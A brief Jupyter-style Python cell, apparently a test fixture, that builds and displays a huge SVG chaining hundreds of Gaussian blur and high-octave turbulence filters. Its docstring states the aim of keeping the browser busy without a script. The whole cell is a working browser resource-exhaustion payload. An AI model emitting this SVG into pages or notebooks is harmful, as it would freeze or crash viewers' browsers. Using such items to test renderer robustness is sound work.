"""Filters, patterns and huge sizes in an SVG keep the browser busy without a script."""

# %% answer:number
from IPython.display import display

blurs = "".join(f"<feGaussianBlur stdDeviation='{900 + n}'/><feTurbulence numOctaves='99'/>" for n in range(200))
display(
    {
        "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' width='99999' height='99999'><filter id='f'>{blurs}</filter><rect filter='url(#f)' width='99999' height='99999'/></svg>"
    },
    raw=True,
)
